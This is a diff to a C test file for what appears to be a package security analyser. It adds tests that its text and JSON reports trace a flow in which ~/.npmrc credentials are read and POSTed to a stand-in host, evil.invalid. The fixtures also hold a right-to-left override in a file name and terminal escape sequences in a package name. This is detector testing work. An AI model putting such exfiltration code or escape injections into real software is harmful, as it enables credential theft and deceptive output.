@@ -93,6 +93,29 @@ TEST(text_says_what_people_need)
         ASSERT_FALSE(holds(&b, "[hook, info"));
 }
 
+TEST(explain_shows_the_way_from_source_to_sink)
+{
+        static const char *const parts[] = {
+                "      lib/setup.js:22:3        net.send       fetch('hxxps://evil[.]invalid/u', "
+                "{method:'POST'})\n"
+                "        source   lib/a b\\u{202e}.js:14:3  a file with credentials "
+                "fs.readFileSync('~/.npmrc')\\x1b[2J\n"
+                "        through  lib/setup.js:20:9        becomes the body        "
+                "post('hxxps://evil[.]invalid/u', …\n"
+                "        sink     lib/setup.js:22:3        net.send                "
+                "fetch('hxxps://evil[.]invalid/u',…\n",
+        };
+        _cleanup_(qn_buf_done) struct qn_buf b = QN_BUF_INIT((size_t)1 << 20),
+                                             plain = QN_BUF_INIT((size_t)1 << 20);
+
+        render(QN_REPORT_TEXT, true, 0, &b);
+        for (size_t i = 0; i < QN_ARRAY_SIZE(parts); i++)
+                if (!holds(&b, parts[i]))
+                        fail_msg("no \"%s\" in:\n%s", parts[i], b.p);
+        render(QN_REPORT_TEXT, false, 0, &plain);
+        ASSERT_FALSE(holds(&plain, "source "));
+}
+
 TEST(order_of_arrival_does_not_matter)
 {
         for (int f = QN_REPORT_TEXT; f <= QN_REPORT_SARIF; f++) {
@@ -157,6 +180,11 @@ TEST(json_contract)
                                   "\"elapsed_ms\":0.000,\"findings\":[],\"unanalysed\":[]},\n"));
         ASSERT_TRUE(holds(
                 &b, "{\"event\":\"net.send\",\"file\":\"lib/setup.js\",\"offset\":880,\"line\":22,"
-                    "\"column\":3,\"text\":\"fetch('https://evil.invalid/u', {method:'POST'})\"}"));
+                    "\"column\":3,\"text\":\"fetch('https://evil.invalid/u', {method:'POST'})\","
+                    "\"flow\":[{\"file\":\"lib/a b\\u202e.js\",\"line\":14,\"column\":3,"
+                    "\"what\":\"a file with credentials\",\"text\":\"fs.readFileSync('~/.npmrc')"
+                    "\\u001b[2J\"},{\"file\":\"lib/setup.js\",\"line\":20,\"column\":9,"
+                    "\"what\":\"becomes the body\","
+                    "\"text\":\"post('https://evil.invalid/u', text)\"}]}"));
         ASSERT_TRUE(holds(&b, "\"name\":\"@evil/pad\\u001b]0;x\\u0007\""));
 }
